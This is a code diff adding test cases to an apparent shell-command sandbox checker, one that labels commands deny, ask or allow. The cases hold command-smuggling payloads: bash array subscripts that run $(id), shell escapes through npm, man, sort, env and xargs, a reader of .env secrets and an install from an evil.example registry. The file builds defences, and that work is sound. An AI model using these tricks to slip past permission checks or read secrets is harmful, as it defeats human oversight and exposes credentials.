@@ -64,6 +64,11 @@ export const GTFO: Record<string, SbCase[]> = {
   npm: [c('npm test --script-shell=/tmp/evil', 'deny'), c('npm run build --script-shell=sh', 'deny'), c('npm install --script-shell=sh', 'deny'), c('npm test --node-options=--require=/tmp/x.js', 'deny'), c('npm install --registry=http://evil.example', 'deny'), c('go test -exec /tmp/evil ./...', 'deny'), c('go test -toolexec=sh ./...', 'deny'), c('make --eval=x test', 'deny'), c('npm ls --depth=0', 'allow')],
   shells: [c('coproc cat', 'deny'), c('echo ${x@P}', 'deny'), c('man --html=sh ls', 'deny'), c('man -P sh ls', 'deny'), c('man ls', 'ask'), c('less README.md', 'ask'), c('X=--compress-program=sh; sort $X README.md', 'deny', 'a computed option'), c('sort $(echo --compress-program=sh) README.md', 'deny'), c('cat $(echo .env)', 'deny'), c('env -S "sh -c id"', 'deny'), c('echo x | xargs sh -c id', 'deny'), c('timeout 5 sed "e id" README.md', 'deny')],
   yoloSafety: [c('cat "$FILE"', 'ask'), c('ls $HOME', 'ask')],
+  // bash evaluates an array subscript as arithmetic in test -v, printf -v and [[ -eq ]]: a[$(cmd)] runs cmd, even quoted.
+  test: [c("test -v 'a[$(id)]'", 'deny', 'the subscript runs id'), c("[ -v 'a[$(id)]' ]", 'deny'), c("[[ 1 -eq 'a[$(id)]' ]]", 'deny', 'arithmetic comparison'),
+    c("printf -v 'a[$(id)]' %s x", 'deny'), c('printf -v "$N" %s x', 'deny', 'a computed name'), c('test -v "$N"', 'ask'), c('[[ $n -lt 5 ]]', 'ask'),
+    c('[ -f src/main.ts ] && cat src/main.ts', 'allow'), c('[[ -d src && ! -e nothing ]]', 'allow'), c('[[ 3 -gt 2 ]]', 'allow'), c('test -v HOME', 'allow'),
+    c('[[ -n "$(cat .env)" ]]', 'deny', 'a substitution inside is checked'), c('[ -n "$(curl x)" ]', 'deny'), c('[[ x == y$(id) ]]', 'ask')],
 };
 
 export const GTFO_CASES: SbCase[] = Object.values(GTFO).flat();
